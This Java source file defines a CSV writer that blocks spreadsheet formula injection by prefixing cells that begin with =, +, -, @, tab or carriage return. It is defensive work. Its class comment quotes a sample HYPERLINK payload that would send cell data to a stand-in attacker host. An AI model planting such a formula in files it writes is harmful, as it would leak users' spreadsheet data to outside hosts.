package org.hygiene.core.text;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.List;

/**
 * Write CSV (RFC 4180, CRLF line ends) that no spreadsheet runs as a formula. Every CSV Hygiene
 * writes goes through here, because its cells carry attacker-controlled log text: a User-Agent
 * {@code =HYPERLINK("http://evil.example/?"&A1,"click")} must arrive as text.
 *
 * <p>The guard follows OWASP's CSV-injection advice: a cell starting with {@code = + - @}, a tab or
 * a carriage return gets a leading {@code '}, which spreadsheets show as text. A plain number
 * ({@code -3}, {@code +2.5}) is left alone: it cannot be a formula, and quiz points and offsets
 * stay numbers.
 */
public final class CsvWriter {

    /** How cells are quoted; the formula guard applies either way. */
    public enum Quoting {
        /** Quote only cells that need it (separator, quote, line break, edge spaces). */
        MINIMAL,
        /** Quote every cell, as PowerShell's {@code Export-Csv} does. */
        ALL
    }

    private final Appendable out;
    private final Quoting quoting;

    public CsvWriter(Appendable out, Quoting quoting) {
        this.out = out;
        this.quoting = quoting;
    }

    /** Write one record. */
    public CsvWriter write(List<String> cells) throws IOException {
        out.append(record(cells, quoting));
        return this;
    }

    /** Return one record, quoted only where needed, with its CRLF. */
    public static String row(List<String> cells) {
        return record(cells, Quoting.MINIMAL);
    }

    /** Return one cell, guarded, quoted only when it needs to be. */
    public static String cell(String value) {
        return cell(value, Quoting.MINIMAL);
    }

    /** Return one record with its CRLF. {@code null} cells are written empty. */
    public static String record(List<String> cells, Quoting quoting) {
        StringBuilder b = new StringBuilder();
        for (int i = 0; i < cells.size(); i++) {
            if (i > 0) {
                b.append(',');
            }
            b.append(cell(cells.get(i), quoting));
        }
        return b.append("\r\n").toString();
    }

    /** Return one cell, guarded and quoted. */
    public static String cell(String value, Quoting quoting) {
        String v = guarded(value == null ? "" : value);
        boolean quote =
                quoting == Quoting.ALL
                        || v.indexOf(',') >= 0
                        || v.indexOf('"') >= 0
                        || v.indexOf('\n') >= 0
                        || v.indexOf('\r') >= 0
                        || v.startsWith(" ")
                        || v.endsWith(" ");
        return quote ? '"' + v.replace("\"", "\"\"") + '"' : v;
    }

    /** Return {@code value} with a leading {@code '} when a spreadsheet would run it. */
    public static String guarded(String value) {
        if (value.isEmpty()) {
            return value;
        }
        char c = value.charAt(0);
        boolean risky = c == '=' || c == '+' || c == '-' || c == '@' || c == '\t' || c == '\r';
        return risky && !plainNumber(value) ? "'" + value : value;
    }

    /** A sign, digits, and at most one point followed by digits: nothing a formula can hide in. */
    private static boolean plainNumber(String v) {
        int i = v.charAt(0) == '+' || v.charAt(0) == '-' ? 1 : 0;
        int digits = 0;
        boolean point = false;
        for (; i < v.length(); i++) {
            char c = v.charAt(i);
            if (c >= '0' && c <= '9') {
                digits++;
            } else if (c == '.' && !point && digits > 0) {
                point = true;
            } else {
                return false;
            }
        }
        return digits > 0 && v.charAt(v.length() - 1) != '.';
    }

    /** Write records to a string builder without the checked exception. */
    public static String records(List<List<String>> rows, Quoting quoting) {
        StringBuilder b = new StringBuilder();
        try {
            CsvWriter w = new CsvWriter(b, quoting);
            for (List<String> row : rows) {
                w.write(row);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e); // a StringBuilder does not throw
        }
        return b.toString();
    }
}
